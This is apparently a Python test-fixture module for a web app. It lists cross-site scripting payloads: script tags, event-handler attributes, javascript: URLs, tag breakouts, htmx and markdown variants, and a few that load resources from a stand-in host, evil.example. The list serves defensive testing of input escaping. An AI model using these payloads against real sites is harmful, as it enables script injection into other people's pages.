"""What hostile visitors send to pages: values for fields and parameters, addresses, bodies."""

from tests.api.test_hostile import NASTY, PARAMETERS

SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "javascript:alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button>x",
    "<object data=javascript:alert(1)>",
    "<div hx-get='//evil.example/' hx-trigger=load>x</div>",
    "<div hx-on:load='alert(1)'>x</div>",
    "[x](javascript:alert(1)) ![x](//evil.example/x.png)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028</b><scr\u0000ipt>alert(1)</scr\u0000ipt>",
]
TEXTS = [
    *SCRIPTS,
    *(text for text in PARAMETERS if text != "\ud800"),
    *(str(value)[:20_000] for value in NASTY if value != "\ud800" and value is not None),
]
